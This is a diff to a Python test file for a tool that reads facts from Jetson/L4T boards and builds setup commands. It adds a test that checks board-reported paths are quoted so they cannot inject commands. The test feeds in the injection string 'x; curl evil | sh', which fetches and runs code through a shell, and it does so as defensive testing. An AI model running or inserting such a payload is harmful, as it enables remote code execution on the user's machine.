@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from pathlib import Path
 
@@ -180,6 +181,17 @@ def test_that_jetpack_follows_from_l4t_where_a_table_names_it() -> None:
     assert parse_l4t("# R35 (release), REVISION: 6.5, GCID: 1, BOARD: t186ref") == "R35.6.5"
     assert parse_l4t("Ubuntu 22.04") is None
     assert all(name.startswith("R3") for name in JETPACKS)
+
+
+def test_that_no_command_runs_what_a_board_told() -> None:
+    evil = "x; curl evil | sh"
+    told = replace(
+        WHOLE, root=evil, python=evil, python_path=evil, home=evil, in_venv=True, root_writable=False,
+        home_writable=False, venv=False, numpy=None, runtimes={"tensorrt": RuntimeFacts(None)}, disk_free_bytes=1,
+    )  # fmt: skip
+    for _, command in lacks(told, "tensorrt"):
+        assert evil not in re.sub(r"'[^']*'", "", command), command
+    assert "sudo apt-get install -y python3-venv" in [command for _, command in lacks(told, "tensorrt")]
 
 
 def test_that_facts_of_the_wrong_type_are_not_known() -> None:
